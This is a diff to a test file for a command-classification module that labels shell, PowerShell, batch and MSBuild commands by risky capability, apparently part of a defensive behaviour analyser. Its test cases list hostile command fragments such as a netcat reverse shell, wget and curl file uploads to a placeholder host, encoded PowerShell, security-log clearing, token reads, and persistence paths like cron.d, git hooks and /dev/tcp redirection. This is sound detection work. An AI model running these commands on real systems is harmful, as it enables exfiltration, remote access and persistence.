@@ -4,9 +4,12 @@ import { classifyCommand } from '../../../src/behaviour/commands/classify-comman
 import { powershellCommands } from '../../../src/behaviour/commands/powershell.js';
 import { shellPrograms } from '../../../src/behaviour/commands/shell-programs.js';
 import { windowsPrograms } from '../../../src/behaviour/commands/windows-programs.js';
+import { classifyRedirection } from '../../../src/behaviour/commands/redirection.js';
 import {
   classifyPropertyFunction,
   classifyTask,
+  intrinsicFunctions,
+  taskGroups,
 } from '../../../src/behaviour/commands/msbuild-tasks.js';
 
 const split = (args: string): string[] => args.split(' ').filter((word) => word !== '');
@@ -65,6 +68,41 @@ describe('classifyCommand', () => {
     ['shell', 'systemctl', '--user enable x', 'persist', 'service'],
     ['shell', 'base64', '-d', 'decode', 'encoding'],
     ['shell', 'python3', '-c import', 'evaluate', 'dynamic-code'],
+    ['powershell', 'powershell', '-en AAAA', 'evaluate', 'dynamic-code'],
+    ['powershell', 'pwsh', '-EncodedCommand AAAA', 'evaluate', 'dynamic-code'],
+    ['powershell', 'Install-Module', 'X -Force', 'download', 'network'],
+    ['powershell', 'Send-MailMessage', '-To a@example.com', 'network', 'mail'],
+    ['powershell', 'ConvertFrom-SecureString', '$x', 'decode', 'data-protection'],
+    ['powershell', 'Get-Secret', 'X', 'call', 'credential-store'],
+    ['powershell', 'Get-ChildItem', 'Cert:\\CurrentUser\\My', 'call', 'certificate'],
+    ['powershell', 'Add-Content', '$PROFILE x', 'persist', 'file-write'],
+    ['powershell', 'Copy-Item', 'Startup.cs b', 'write-file', 'file-write'],
+    ['powershell', 'New-CimInstance', '', 'persist', 'wmi'],
+    ['batch', 'powershell', '–enc AAAA', 'evaluate', 'dynamic-code'],
+    ['batch', 'curl', '-f -o x http://a.test', 'download', 'network'],
+    ['batch', 'curl', '-F file=@x http://a.test', 'network', 'network'],
+    ['batch', 'mpcmdrun', '-DownloadFile -url http://a.test/x', 'download', 'network'],
+    ['batch', 'wmic', 'process call create x.exe', 'start-process', 'process'],
+    ['batch', 'rundll32', 'x.dll,Run', 'load-code', 'assembly-load'],
+    ['batch', 'msiexec', '/i http://a.test/x.msi', 'download', 'network'],
+    ['batch', 'sc', 'create x', 'persist', 'service'],
+    ['batch', 'cmstp', '/s x.inf', 'load-code', 'assembly-load'],
+    ['batch', 'wevtutil', 'cl Security', 'call', 'file-delete'],
+    ['batch', 'nslookup', '-q=txt a.test', 'network', 'dns'],
+    ['batch', 'dotnet', 'tool install x', 'download', 'network'],
+    ['shell', 'wget', '--post-file=x http://a.test', 'network', 'network'],
+    ['shell', 'nc', '-e /bin/sh a.test 1', 'network', 'network'],
+    ['shell', 'dig', 'txt a.test', 'network', 'dns'],
+    ['shell', 'openssl', 'enc -d -aes-256-cbc', 'call', 'crypto'],
+    ['shell', 'openssl', 'base64 -d', 'decode', 'encoding'],
+    ['shell', 'openssl', 's_client -connect a.test:443', 'network', 'network'],
+    ['shell', 'git', 'credential fill', 'call', 'credential-store'],
+    ['shell', 'gh', 'auth token', 'call', 'credential-store'],
+    ['shell', 'aws', 'sts get-session-token', 'call', 'credential-store'],
+    ['shell', 'npm', 'publish', 'network', 'network'],
+    ['shell', 'tee', '-a /etc/cron.d/x', 'persist', 'file-write'],
+    ['shell', 'export', '-p', 'environment', 'environment-all'],
+    ['shell', 'systemd-detect-virt', '', 'call', 'analysis-check'],
     ['shell', 'env', '', 'environment', 'environment-all'],
     ['shell', 'env', 'A=1 ./x', 'start-process', 'process'],
   ] as const)('%s: %s %s is %s', (language, name, args, act, capability) => {
@@ -86,6 +124,7 @@ describe('classifyCommand', () => {
     ['shell', 'cd', '/tmp'],
     ['shell', 'npm', 'test'],
     ['shell', 'chmod', '644 x'],
+    ['shell', 'export', 'A=1'],
     ['shell', 'toString', ''],
     ['shell', '', ''],
   ] as const)('%s: %s %s is nothing', (language, name, args) => {
@@ -105,11 +144,46 @@ describe('classifyCommand', () => {
 });
 
 describe('the command tables', () => {
-  it.each([powershellCommands, windowsPrograms, shellPrograms])(
-    'name each command once',
-    (table) => {
-      const names = Object.keys(table).flatMap((key) => key.split(' '));
-      expect(names.filter((name, i) => names.indexOf(name) !== i)).toEqual([]);
+  const tables = [powershellCommands, windowsPrograms, shellPrograms];
+
+  it.each(tables)('name each command once, in lower case', (...groups) => {
+    const names = groups.flatMap(({ commands }) =>
+      Object.keys(commands).flatMap((key) => key.split(' ')),
+    );
+    expect(names.filter((name, i) => names.indexOf(name) !== i)).toEqual([]);
+    expect(names.filter((name) => name !== name.toLowerCase() || name === '')).toEqual([]);
+  });
+
+  it('say for every group where it is documented', () => {
+    const groups = [...tables.flat(), ...taskGroups, intrinsicFunctions];
+    for (const { documentation } of groups) {
+      expect(documentation.length).toBeGreaterThan(0);
+      for (const { title, url } of documentation) {
+        expect(title).toMatch(/docs/);
+        expect(new URL(url).protocol).toMatch(/^https?:$/);
+      }
+    }
+  });
+});
+
+describe('classifyRedirection', () => {
+  it.each([
+    ['/dev/tcp/192.0.2.1/4444', 'network'],
+    ['~/.bashrc', 'persist'],
+    ['~/.config/systemd/user/x.service', 'persist'],
+    ['/etc/cron.d/x', 'persist'],
+    ['$PROFILE', 'persist'],
+    ['%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat', 'persist'],
+    ['.git/hooks/pre-commit', 'persist'],
+    ['.vscode/tasks.json', 'persist'],
+  ])('%s is %s', (target, act) => {
+    expect(classifyRedirection(target)?.act).toBe(act);
+  });
+
+  it.each(['/dev/null', 'out.log', 'NUL', '&1', 'Startup.cs', 'src/macron.txt', '/tmp/profile'])(
+    '%s is nothing',
+    (target) => {
+      expect(classifyRedirection(target)).toBeUndefined();
     },
   );
 });
@@ -121,6 +195,10 @@ describe('MSBuild', () => {
     ['Microsoft.Build.Tasks.WriteLinesToFile', 'write-file', 'file-write'],
     ['copy', 'copy', 'file-write'],
     ['Unzip', 'write-file', 'compression'],
+    ['ReadLinesFromFile', 'read-file', 'file-read'],
+    ['XslTransformation', 'write-file', 'file-write'],
+    ['SignFile', 'read-file', 'certificate'],
+    ['WebDownload', 'download', 'network'],
   ])('task %s', (name, construct, capability) => {
     expect(classifyTask(name)).toEqual({ construct, capability });
   });
@@ -137,6 +215,11 @@ describe('MSBuild', () => {
     ['system.environment', 'GetEnvironmentVariable', 'environment'],
     ['MSBuild', 'GetRegistryValue', 'registry'],
     ['System.DateTime', 'UtcNow', 'time'],
+    ['MSBuild', 'RegisterBuildCheck', 'assembly-load'],
+    ['MSBuild', 'CalculateSha256', 'hash'],
+    ['System.IO.Directory', 'GetFiles', 'file-read'],
+    ['System.Environment', 'GetEnvironmentVariables', 'environment-all'],
+    ['System.Environment', 'UserName', 'identity'],
     ['System.IO.Path', 'Combine', undefined],
     ['MSBuild', 'Add', undefined],
     ['System.String', 'Join', undefined],
